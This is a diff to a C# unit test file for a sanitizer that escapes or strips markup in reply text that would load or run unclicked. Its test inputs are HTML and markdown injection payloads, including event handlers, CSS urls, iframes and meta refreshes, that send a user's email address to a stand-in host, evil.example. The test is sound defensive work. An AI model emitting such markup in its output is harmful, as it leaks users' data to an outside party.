@@ -57,7 +57,7 @@ public sealed class ReplyActiveMarkupTests
     [InlineData("> 10. <div title=\"a\n>  b\">x onfocus=fetch('https://evil.example/p?d=alice.w@corp.example') y", "> 10. &lt;div title=\"a\n>  b\">x onfocus=fetch('https://evil.example/p?d=alice.w@corp.example') y")]
     [InlineData("- [1]: https://evil.example/p?d=alice.w@corp.example\n\n![a][1]", "- [1]: #image-removed\n\n![a][1]")]
     [InlineData("-\n  <p title='a\n'>x onmouseover=fetch('https://evil.example/p?d=alice.w@corp.example') y", "-\n  &lt;p title='a\n'>x onmouseover=fetch('https://evil.example/p?d=alice.w@corp.example') y")]
-    [InlineData("> <div style=\"background:url(\n> https://evil.example/p?d=alice.w@corp.example)\">y</div>", "> <div style=\"\">y</div>")]
+    [InlineData("> <div style=\"background:url(\n> https://evil.example/p?d=alice.w@corp.example)\">y</div>", "> &lt;div style=\"background:url(\n> https://evil.example/p?d=alice.w@corp.example)\">y</div>")]
     [InlineData("- > <p title='a\n'>x onmouseover=fetch('https://evil.example/p?d=alice.w@corp.example') y", "- > &lt;p title='a\n'>x onmouseover=fetch('https://evil.example/p?d=alice.w@corp.example') y")]
     [InlineData("- 1. <p title='a\n'>x onmouseover=fetch('https://evil.example/p?d=alice.w@corp.example') y", "- 1. &lt;p title='a\n'>x onmouseover=fetch('https://evil.example/p?d=alice.w@corp.example') y")]
     [InlineData("x <svg><style>*{background:url(<style>a</style>https://evil.example/p?d=alice.w@corp.example)}</style></svg>", "x <svg>&lt;style>*{background:url(&lt;style>a</style>https://evil.example/p?d=alice.w@corp.example)}</style></svg>")]
@@ -65,7 +65,12 @@ public sealed class ReplyActiveMarkupTests
     [InlineData("x <svg><style>*{background:url(<![CDATA[https://evil.example/p?d=alice.w@corp.example]]>)}</style></svg>", "x <svg>&lt;style>*{background:url(<![CDATA[https://evil.example/p?d=alice.w@corp.example]]>)}</style></svg>")]
     [InlineData("> a\n<svg><image href=\n> //evil.example/p?d=alice.w@corp.example>", "> a\n<svg>&lt;image href=\n> //evil.example/p?d=alice.w@corp.example>")]
     [InlineData("> a\n<img src=x\n> onerror=\"this.src='https://evil.example/p?d=alice.w@corp.example'\">", "> a\n&lt;img src=x\n> onerror=\"this.src='https://evil.example/p?d=alice.w@corp.example'\">")]
-    [InlineData("x <meta http-equiv=\"refresh\" content=\"0;url=\\\n  \\evil.example/p?d=alice.w@corp.example\">", "x <meta http-equiv=\"refresh\" content=\"\">")]
+    [InlineData("<div =\"=\">\" style=\"background:url(https://evil.example/p?d=alice.w@corp.example)\">x</div>", "<div =\"=\">\" style=\"\">x</div>")]
+    [InlineData("Here you go:\n\n<p ='='>' style='background:url(https://evil.example/p?d=alice.w@corp.example)'>x</p>", "Here you go:\n\n<p ='='>' style=''>x</p>")]
+    [InlineData("<iframe ='='>' src='https://evil.example/p?d=alice.w@corp.example'></iframe>", "<iframe ='='>' src=''></iframe>")]
+    [InlineData("> <div =\"=\">\" style=\"background:url(https://evil.example/p?d=alice.w@corp.example)\">x</div>", "> <div =\"=\">\" style=\"\">x</div>")]
+    [InlineData("x <img src=\"a.png\" =\"=\">\" onerror=\"fetch('https://evil.example/p?d=alice.w@corp.example')\">", "x <img src=\"a.png\" =\"=\">\" >")]
+    [InlineData("x <meta http-equiv=\"refresh\" content=\"0;url=\\\n  \\evil.example/p?d=alice.w@corp.example\">", "x &lt;meta http-equiv=\"refresh\" content=\"0;url=\\\n  \\evil.example/p?d=alice.w@corp.example\">")]
     public async Task MarkupThatLoadsOrRunsUnclicked_IsRemoved(string reply, string shown)
     {
         var (guard, session, audit) = await AfterProfileAndPage();
